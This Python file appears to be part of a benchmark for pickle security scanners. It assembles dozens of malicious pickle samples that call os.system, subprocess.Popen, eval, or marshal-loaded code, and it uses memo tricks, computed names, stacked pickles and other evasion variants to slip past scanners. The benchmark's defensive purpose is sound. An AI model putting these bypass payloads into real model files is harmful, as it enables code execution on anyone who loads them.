"""Opcodes that no writer uses so: unusual calls, names that are computed, memos that mislead, registries."""

# ruff: noqa: E501 - one sample, one line

import struct
from collections.abc import Iterator

from benchmarks.pickle.assembler import (
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MARKER,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    POP_MARK,
    REDUCE,
    RUN,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    SYSTEM,
    TUPLE1,
    TUPLE2,
    Apply,
    Name,
    Raw,
    blob,
    frame,
    get,
    global_,
    inst,
    pickle,
    proto,
    push,
    put,
    short_text,
    stack_global,
    text,
)
from benchmarks.pickle.sample import Sample

COMMAND = text(MARKER)
ARGS = COMMAND + TUPLE1
P2, P4 = proto(2), proto(4)
OS = global_("os", "system")


def samples() -> Iterator[Sample]:
    for name, data in {**_calls(), **_names(), **_poisons(), **_order()}.items():
        yield Sample("opcode_tricks", name, "model.pkl", data)
    for name, data in _memo().items():
        yield Sample("memo_confusion", name, "model.pkl", data)
    for name, data in _bypasses().items():
        yield Sample("bypasses", name, "model.pkl", data)


def _calls() -> dict[str, bytes]:
    popen = Name("subprocess", "Popen")
    return {
        "inst": MARK + b"V" + MARKER.encode() + b"\n" + inst("os", "system") + STOP,
        "inst-p2": P2 + MARK + COMMAND + inst("os", "system") + STOP,
        "obj": MARK + OS + COMMAND + OBJ + STOP,
        "obj-p4": P4 + MARK + stack_global("os", "system") + COMMAND + OBJ + STOP,
        "obj-then-pop": P2 + MARK + OS + COMMAND + OBJ + POP + EMPTY_DICT + STOP,
        "newobj": P2 + global_("subprocess", "Popen") + push((["echo", "x"],), 2) + NEWOBJ + STOP,
        "newobj-ex": P4 + push(popen) + push((["echo"],)) + EMPTY_DICT + NEWOBJ_EX + STOP,
        "newobj-ex-kwargs": P4 + push(popen) + EMPTY_TUPLE + push({"args": ["echo"]}) + NEWOBJ_EX + STOP,
        "partial": pickle(Apply(Apply(Name("functools", "partial"), (SYSTEM, MARKER)), ()), 4),
        "map": pickle(Apply(Name("builtins", "list"), (Apply(Name("builtins", "map"), (SYSTEM, [MARKER])),)), 4),
        "filter": pickle(Apply(Name("builtins", "set"), (Apply(Name("builtins", "filter"), (SYSTEM, [MARKER])),)), 4),
        "reduce": pickle(Apply(Name("functools", "reduce"), (SYSTEM, [MARKER, 1])), 4),
        "defaultdict": pickle(Apply(Name("collections", "defaultdict"), (SYSTEM,)), 4),
        "rebuild-from-type": pickle(
            Apply(Name("torch._tensor", "_rebuild_from_type_v2"), (SYSTEM, Name("builtins", "str"), (MARKER,), {})), 2
        ),
        "copyreg-newobj": pickle(Apply(Name("copyreg", "__newobj__"), (Name("subprocess", "Popen"), ["echo"])), 4),
        "copyreg-reconstructor": pickle(
            Apply(Name("copyreg", "_reconstructor"), (Name("subprocess", "Popen"), Name("builtins", "object"), None)), 2
        ),
        "starmap": pickle(Apply(Name("itertools", "starmap"), (SYSTEM, [(MARKER,)])), 4),
        "methodcaller": pickle(Apply(Apply(Name("operator", "methodcaller"), ("system", MARKER)), (Name("os", "path"),)), 4),
        "call-of-result": pickle(Apply(Apply(Name("builtins", "getattr"), (Name("os", "path"), "join")), ("a",)), 4),
    }  # fmt: skip


def _names() -> dict[str, bytes]:
    encode = Apply(Name("_codecs", "encode"), ("os", "utf8"))
    joined = Apply(Name("_codecs", "decode"), (b"system", "utf8"))
    return {
        "computed-module": P4 + push(encode) + short_text("system") + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "computed-name": P4 + short_text("os") + push(joined) + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "computed-both": P4 + push(encode) + push(joined) + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "py2-builtin": P2 + global_("__builtin__", "eval") + text("1") + TUPLE1 + REDUCE + STOP,
        "py2-commands": b"ccommands\ngetstatusoutput\n(V" + MARKER.encode() + b"\ntR.",
        "py2-urllib": b"curllib\nurlretrieve\n(Vhttp://127.0.0.1:9/\ntR.",
        "py2-execfile": b"c__builtin__\nexecfile\n(V/nonexistent\ntR.",
        "py2-mapped-module": b"cos2\nsystem\n(V" + MARKER.encode() + b"\ntR.",
        "late-protocol": P4 + b"N0" + proto(2) + global_("__builtin__", "eval") + text("1") + TUPLE1 + REDUCE + STOP,
        "memo-name": P4 + short_text("os") + MEMOIZE + POP + short_text("system") + MEMOIZE + POP
        + get(0) + get(1) + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "string-operands": P4 + b"S'os'\n" + b"S'system'\n" + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "unicode-operands": P4 + b"Vos\n" + b"Vs\\u0079stem\n" + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "escaped-string": b"S'o\\x73'\n0" + OS + b"(S'\\x65cho'\ntR.",
        "long-operands": P4 + b"\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "far-operands": P4 + short_text("os") + short_text("system") + (EMPTY_LIST + POP) * 200 + STACK_GLOBAL
        + ARGS + REDUCE + STOP,
        "dup-operand": P4 + short_text("code") + DUP + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP,
        "operand-from-tuple": P4 + short_text("os") + short_text("system") + DUP + POP + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "ext1": P2 + b"\x82\x01" + ARGS + REDUCE + STOP,
        "ext2": P2 + b"\x83\x01\x01" + ARGS + REDUCE + STOP,
        "ext4": P2 + b"\x84" + struct.pack("<i", 70_000) + ARGS + REDUCE + STOP,
        "ext-registered": P2 + push(Apply(Name("copyreg", "add_extension"), ("os", "system", 77)), 2) + POP
        + b"\x82\x4d" + ARGS + REDUCE + STOP,
    }  # fmt: skip


def _poisons() -> dict[str, bytes]:
    state = push({"__call__": SYSTEM}, 2)
    tuple_state = push((None, {"load": SYSTEM}), 2)
    return {
        "build-class": P2 + global_("collections", "OrderedDict") + state + BUILD + STOP,
        "build-function": P2 + global_("torch._utils", "_rebuild_tensor_v2") + push({"__defaults__": (1,)}, 2) + BUILD + STOP,
        "build-tuple-state": P2 + global_("torch.storage", "TypedStorage") + tuple_state + BUILD + STOP,
        "build-numpy-function": P2 + global_("numpy.core.multiarray", "_reconstruct") + state + BUILD + STOP,
        "setitem-on-global": P4 + stack_global("os", "environ") + short_text("PATH") + short_text("/x") + SETITEM + STOP,
        "append-on-global": P4 + stack_global("sys", "path") + short_text("/x") + b"a" + STOP,
        "build-setstate": P2 + push(Apply(Name("torch.nn", "Module"), ()), 2) + push({"__setstate__": SYSTEM}, 2) + BUILD + STOP,
        "build-reduce-server": P2 + push(Apply(Name("http.server", "HTTPServer"), (("127.0.0.1", 0), None)), 2)
        + push({"x": 1}, 2) + BUILD + STOP,
    }  # fmt: skip


def _order() -> dict[str, bytes]:
    return {
        "dropped-result": P2 + push(RUN, 2) + POP + EMPTY_DICT + STOP,
        "pop-mark": P2 + MARK + push(RUN, 2) + POP_MARK + EMPTY_DICT + STOP,
        "below-mark": P2 + push(RUN, 2) + MARK + b"t" + STOP,
        "left-on-stack": P2 + push(RUN, 2) + EMPTY_DICT + STOP,
        "stacked-second": pickle({"a": 1}, 2) + pickle(RUN, 2),
        "stacked-third": pickle({"a": 1}, 2) + pickle([], 4) + pickle(RUN, 0),
        "stacked-after-nulls": pickle({"a": 1}, 2) + bytes(64) + pickle(RUN, 2),
        "memo-function": P2 + OS + put(0) + POP + get(0) + ARGS + REDUCE + STOP,
        "memo-overwritten": P2 + global_("collections", "OrderedDict") + put(5) + POP + OS + put(5) + POP + get(5) + ARGS
        + REDUCE + STOP,
        "memoize-overwrites": P4 + text("os") + put(1) + POP + OS + MEMOIZE + POP + get(1) + ARGS + REDUCE + STOP,
        "dup-function": P2 + OS + DUP + ARGS + REDUCE + STOP,
        "framed-apart": P4 + frame(OS) + frame(ARGS + REDUCE + STOP),
        "argument-from-persid": P2 + OS + text("0") + b"Q" + TUPLE1 + REDUCE + STOP,
        "not-called": P2 + OS + STOP,
        "not-called-in-list": P2 + EMPTY_LIST + OS + b"a" + STOP,
        "readonly-buffer": proto(5) + OS + ARGS + REDUCE + POP + b"\x97\x98" + STOP,
    }  # fmt: skip


def _memo() -> dict[str, bytes]:
    """A memo write straight after an opcode that a scanner of the opcode before it does not expect."""
    benign = global_("collections", "OrderedDict")
    end = ARGS + REDUCE + STOP
    pair = short_text("os") + put(3) + POP + short_text("system") + put(4) + POP
    wrong = short_text("collections") + short_text("OrderedDict")
    cases = {
        "put-after-pop": P2 + OS + EMPTY_LIST + POP + put(0) + POP + get(0) + end,
        "memoize-after-pop": P4 + OS + EMPTY_LIST + POP + MEMOIZE + POP + get(0) + end,
        "put-after-dup": P2 + OS + DUP + put(0) + POP + POP + get(0) + end,
        "memoize-after-dup": P4 + OS + DUP + MEMOIZE + POP + POP + get(0) + end,
        "put-after-proto": P2 + OS + proto(2) + put(0) + POP + get(0) + end,
        "memoize-after-frame": P4 + OS + frame(MEMOIZE + POP + get(0) + end),
        "put-after-get": P2 + OS + put(0) + POP + get(0) + put(1) + POP + get(1) + end,
        "put-after-pop-mark": P2 + OS + MARK + b"N" + POP_MARK + put(0) + POP + get(0) + end,
        "memoize-after-pop-mark": P4 + OS + MARK + b"N" + POP_MARK + MEMOIZE + POP + get(0) + end,
        "put-after-persid": b"c_codecs\nencode\n0" + OS + b"P0\n0" + b"p0\n0g0\n(V" + MARKER.encode() + b"\ntR.",
        "put-after-binpersid": P2 + OS + text("0") + b"Q0" + put(0) + POP + get(0) + end,
        "operands-after-pop": P4 + pair + get(3) + get(4) + STACK_GLOBAL + end,
        "operands-cover": P4 + pair + wrong + POP + POP + get(3) + get(4) + STACK_GLOBAL + end,
        "operands-dup": P4 + short_text("os") + DUP + put(0) + POP + POP + short_text("system") + DUP + put(1) + POP + POP
        + get(0) + get(1) + STACK_GLOBAL + end,
        "operands-swapped": P4 + short_text("system") + EMPTY_LIST + POP + MEMOIZE + POP + short_text("os") + get(0)
        + STACK_GLOBAL + end,
        "benign-first": P2 + benign + put(0) + OS + EMPTY_DICT + POP + put(0) + POP + POP + get(0) + end,
        "leading-zero-get": b"cos\nsystem\np007\n0g7\n(V" + MARKER.encode() + b"\ntR.",
        "underscore-get": b"cos\nsystem\np1_0\n0g10\n(V" + MARKER.encode() + b"\ntR.",
    }  # fmt: skip
    return {name: data for name, data in cases.items() if data}


def _bypasses() -> dict[str, bytes]:
    """From the descriptions of what two scanners published about themselves."""
    result = Apply(Name("collections", "OrderedDict"), ())
    get_attr = Name("builtins", "getattr")
    modules = Name("sys", "modules")
    item = Apply(Name("operator", "getitem"), (modules, "os"))
    loads = push(Apply(Name("marshal", "loads"), (b"c",)), 4)
    hidden = Raw(push(RUN, 4) + POP + push(result, 4))
    return {
        "unused-variable": pickle(Raw(push(RUN, 2) + POP + push({"x": 1}, 2)), 2),
        "result-under-ordereddict": pickle(hidden, 4),
        "getattr-chain": pickle(Apply(Apply(get_attr, (item, "system")), (MARKER,)), 4),
        "attrgetter": pickle(Apply(Apply(Name("operator", "attrgetter"), ("system",)), (item,)), 4),
        "itemgetter": pickle(Apply(Apply(Name("operator", "itemgetter"), ("os",)), (modules,)), 4),
        "marshal-function": P4 + stack_global("types", "FunctionType") + loads + EMPTY_DICT + TUPLE2 + REDUCE + STOP,
        "code-type": pickle(Apply(Name("types", "CodeType"), (0, 0, 0, 0, 0, 0, b"", (), (), (), "f", "f", 1, b"")), 4),
        "builtins-vars": pickle(Apply(Name("builtins", "vars"), (Name("os", "path"),)), 4),
        "builtins-globals": pickle(Apply(Name("builtins", "globals"), ()), 4),
        "builtins-delattr": pickle(Apply(Name("builtins", "delattr"), (Name("os", "path"), "join")), 4),
        "builtins-type": pickle(Apply(Name("builtins", "type"), ("X", (), {"__del__": SYSTEM})), 4),
        "builtins-help": pickle(Apply(Name("builtins", "help"), ("os",)), 4),
        "builtins-memoryview": pickle(Apply(Name("builtins", "__build_class__"), (SYSTEM, "X")), 4),
        "atexit": pickle(Apply(Name("atexit", "register"), (SYSTEM, MARKER)), 4),
        "signal": pickle(Apply(Name("signal", "signal"), (14, SYSTEM)), 4),
        "sys-settrace": pickle(Apply(Name("sys", "settrace"), (SYSTEM,)), 4),
        "gc": pickle(Apply(Name("gc", "get_objects"), ()), 4),
        "weakref-finalize": pickle(Apply(Name("weakref", "finalize"), (Name("os", "path"), SYSTEM, MARKER)), 4),
        "threading-timer": pickle(Apply(Name("threading", "Timer"), (1, SYSTEM, [MARKER])), 4),
        "sched": pickle(Apply(Name("sched", "scheduler"), (SYSTEM, SYSTEM)), 4),
        "unittest-mock": pickle(Apply(Name("unittest.mock", "_importer"), ("os",)), 4),
        "lazy-module": pickle(Apply(Name("torch._classes", "_Classes"), ()), 4),
        "inner-bytes-loader": pickle(Apply(Name("pickle", "_loads"), (pickle(RUN, 2),)), 4),
        "posixsubprocess": pickle(Apply(Name("_posixsubprocess", "fork_exec"), (["echo"],)), 4),
        "nul-between": pickle({"a": 1}, 2) + b"\x00" + pickle(RUN, 2),
        "newline-between": pickle({"a": 1}, 2) + b"\n" + pickle(RUN, 2),
        "module-only": P2 + global_("hfcheck_marker_module", "anything") + STOP,
        "blank-in-name": P2 + b"c os\nsystem\n" + ARGS + REDUCE + STOP,
        "carriage-return": P2 + b"cos\r\nsystem\r\n" + ARGS + REDUCE + STOP,
        "surrogate-name": P4 + text("os\ud800") + text("system") + STACK_GLOBAL + ARGS + REDUCE + STOP,
        "long-padding": P2 + text("x" * 300_000) + POP + push(RUN, 2) + STOP,
        "pickle-of-pickle": P4 + blob(pickle(RUN, 4)) + MEMOIZE + POP + stack_global("pickle", "loads") + get(0) + TUPLE1
        + REDUCE + STOP,
        "opcode-soup": P4 + (EMPTY_LIST + POP) * 30_000 + push(RUN, 4) + STOP,
        "extension-joined": P2 + global_("torch._utils", "_rebuild_tensor_v2") + POP + OS + ARGS + REDUCE + STOP,
        "unicode-module": P2 + "cs\uff59s\nexit\n".encode() + EMPTY_TUPLE + REDUCE + STOP,
    }  # fmt: skip
